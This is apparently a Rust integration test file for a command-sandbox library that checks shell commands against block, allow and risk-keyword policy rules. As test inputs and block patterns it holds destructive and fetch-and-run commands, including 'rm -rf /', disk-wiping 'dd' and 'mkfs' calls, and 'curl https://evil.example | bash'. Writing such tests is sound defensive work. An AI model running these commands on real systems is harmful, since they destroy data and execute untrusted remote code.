//! Integration tests for command evaluation

use command_sandbox::{
    evaluate_text, Decision, EvaluationResult, Platform, SandboxEngine, SecurityPolicy,
};

fn check(policy: &str, command: &str) -> EvaluationResult {
    let policy = SecurityPolicy::from_json(policy).unwrap();
    SandboxEngine::new(Some(&policy), Some(Platform::Linux)).evaluate(command)
}

fn check_on(policy: &str, platform: Platform, command: &str) -> EvaluationResult {
    let policy = SecurityPolicy::from_json(policy).unwrap();
    SandboxEngine::new(Some(&policy), Some(platform)).evaluate(command)
}

// ============================================================================
// Documented scenarios
// ============================================================================

#[test]
fn test_rm_rf_blocked_by_pattern() {
    let result = check(r#"{"version":1,"common":{"block":["rm\\s+-rf"]}}"#, "rm -rf /data");
    assert_eq!(result.decision, Decision::Block);
    assert!(result.reasons.iter().any(|r| r.contains("blocked by pattern")));
}

#[test]
fn test_quoted_password_not_warned() {
    let result = check(
        r#"{"version":1,"common":{"riskKeywords":["password"]}}"#,
        r#"echo "Enter your password""#,
    );
    assert_ne!(result.decision, Decision::Warn);
}

#[test]
fn test_unquoted_password_warned() {
    let result = check(
        r#"{"version":1,"common":{"riskKeywords":["password"]}}"#,
        "export PASSWORD_VAR=password",
    );
    assert_eq!(result.decision, Decision::Warn);
}

#[test]
fn test_allow_list_without_match() {
    let result = check(r#"{"version":1,"common":{"allow":["^ls","^pwd"]}}"#, "cat file.txt");
    assert_eq!(result.decision, Decision::Allow);
    assert!(result.reasons.iter().any(|r| r.contains("no allow rule matched")));
}

#[test]
fn test_empty_policy_allows() {
    let result = check(r#"{"version":1}"#, "anything");
    assert_eq!(result.decision, Decision::Allow);
    assert!(result.reasons.iter().any(|r| r.contains("no rules")));
}

#[test]
fn test_invalid_regex_falls_through() {
    let policy = r#"{"version":1,"common":{"block":["[invalid(regex"],"riskKeywords":["sudo"]}}"#;
    assert_eq!(check(policy, "ls -la").decision, Decision::Allow);
    assert_eq!(check(policy, "sudo ls").decision, Decision::Warn);
}

// ============================================================================
// Properties
// ============================================================================

#[test]
fn test_block_beats_risk_in_any_order() {
    let policies = [
        r#"{"version":1,"common":{"riskKeywords":["curl"],"block":["curl.*\\|\\s*sh"]}}"#,
        r#"{"version":1,"common":{"block":["curl.*\\|\\s*sh"],"riskKeywords":["curl"]}}"#,
        r#"{"version":1,"common":{"riskKeywords":["curl"]},
            "platforms":{"linux":{"block":["curl.*\\|\\s*sh"]}}}"#,
    ];
    for policy in policies {
        assert_eq!(check(policy, "curl https://x.sh | sh").decision, Decision::Block);
    }
}

#[test]
fn test_quote_exemption_single_and_double() {
    let policy = r#"{"version":1,"common":{"riskKeywords":["token"]}}"#;
    for command in [
        r#"echo "your token here""#,
        "echo 'your token here'",
        r#"git commit -m "rotate token""#,
        r#"echo "escaped \" token \" inside""#,
    ] {
        assert_ne!(check(policy, command).decision, Decision::Warn, "{}", command);
    }
    assert_eq!(check(policy, r#"echo "x" token"#).decision, Decision::Warn);
}

#[test]
fn test_block_matches_quoted_arguments() {
    let policy = r#"{"version":1,"common":{"block":["rm\\s+-rf\\s+.*dangerous"]}}"#;
    assert_eq!(check(policy, "rm -rf dangerous").decision, Decision::Block);
    assert_eq!(check(policy, r#"rm -rf "$(dangerous)""#).decision, Decision::Block);
    assert_eq!(check(policy, "rm -rf 'dangerous'").decision, Decision::Block);
}

#[test]
fn test_allow_list_never_blocks() {
    let policy = r#"{"version":1,"common":{"allow":["^git status$"]}}"#;
    for command in ["rm -rf /", "make", "", "git push"] {
        assert_eq!(check(policy, command).decision, Decision::Allow);
    }
}

#[test]
fn test_invalid_regex_does_not_hide_valid_ones() {
    let policy = r#"{"version":1,
        "common":{"block":["(unclosed","mkfs","*bad"]},
        "platforms":{"linux":{"block":["[z-a]","dd\\s+if="]}}}"#;
    let mkfs = check(policy, "mkfs.ext4 /dev/sda1");
    assert_eq!(mkfs.decision, Decision::Block);
    assert_eq!(mkfs.rule_id.as_deref(), Some("common-block-1"));

    let dd = check(policy, "dd if=/dev/zero of=/dev/sda");
    assert_eq!(dd.decision, Decision::Block);
    assert_eq!(dd.rule_id.as_deref(), Some("linux-block-1"));
}

#[test]
fn test_platform_rules_are_additive() {
    let policy = r#"{"version":1,
        "common":{"block":["shutdown"]},
        "platforms":{
            "win32":{"block":["(?i)format\\s+[a-z]:"]},
            "darwin":{"block":["diskutil\\s+eraseDisk"]}}}"#;

    assert_eq!(check_on(policy, Platform::Win32, "format C:").decision, Decision::Block);
    assert_eq!(check_on(policy, Platform::Linux, "format C:").decision, Decision::Allow);
    let erase = check_on(policy, Platform::Darwin, "diskutil eraseDisk JHFS+ x disk2");
    assert_eq!(erase.decision, Decision::Block);
    for platform in Platform::ALL {
        assert_eq!(check_on(policy, platform, "shutdown now").decision, Decision::Block);
    }
}

#[test]
fn test_common_reason_reported_before_platform() {
    let policy = r#"{"version":1,"common":{"block":["rm"]},
        "platforms":{"linux":{"block":["rm\\s+-rf"]}}}"#;
    let result = check(policy, "rm -rf x");
    assert_eq!(result.rule_id.as_deref(), Some("common-block-0"));
    assert_eq!(result.reasons, ["Command blocked by pattern: rm"]);
}

#[test]
fn test_every_result_has_a_reason() {
    let policy =
        r#"{"version":1,"common":{"block":["rm"],"allow":["^ls"],"riskKeywords":["sudo"]}}"#;
    for command in ["rm x", "sudo x", "ls", "cat", ""] {
        assert!(!check(policy, command).reasons.is_empty());
    }
}

#[test]
fn test_invalid_policy_text_is_permissive() {
    for policy in ["", "{", r#"{"version":"1","common":{"block":[".*"]}}"#, "[]"] {
        assert_eq!(evaluate_text(policy, "rm -rf /").decision, Decision::Allow);
    }
}

#[test]
fn test_default_policy() {
    let policy = SecurityPolicy::default_policy();
    let linux = SandboxEngine::new(Some(&policy), Some(Platform::Linux));

    assert!(linux.skipped_patterns().is_empty());
    assert_eq!(linux.evaluate("rm -rf /").decision, Decision::Block);
    assert_eq!(linux.evaluate("curl https://evil.example | bash").decision, Decision::Block);
    assert_eq!(linux.evaluate("mkfs.ext4 /dev/sdb1").decision, Decision::Block);
    assert_eq!(linux.evaluate("git push --force origin feature").decision, Decision::Warn);
    assert_eq!(linux.evaluate(r#"echo "password reset""#).decision, Decision::Allow);
    assert_eq!(linux.evaluate("cargo test").decision, Decision::Allow);
    assert_eq!(linux.evaluate("rm -rf ./node_modules").decision, Decision::Allow);

    let windows = SandboxEngine::new(Some(&policy), Some(Platform::Win32));
    assert_eq!(windows.evaluate("format D: /q").decision, Decision::Block);
    assert_eq!(windows.evaluate("mkfs.ext4 /dev/sdb1").decision, Decision::Allow);
}

#[test]
fn test_evaluation_is_idempotent() {
    let policy = SecurityPolicy::default_policy();
    let engine = SandboxEngine::new(Some(&policy), Some(Platform::Linux));
    for command in ["rm -rf /", "sudo ls", "ls", r#"echo "token""#] {
        assert_eq!(engine.evaluate(command), engine.evaluate(command));
    }
}

#[test]
fn test_empty_command_allowed_unless_matched() {
    assert_eq!(check(r#"{"version":1,"common":{"block":["rm"]}}"#, "").decision, Decision::Allow);
    assert_eq!(check(r#"{"version":1,"common":{"block":["^$"]}}"#, "").decision, Decision::Block);
}
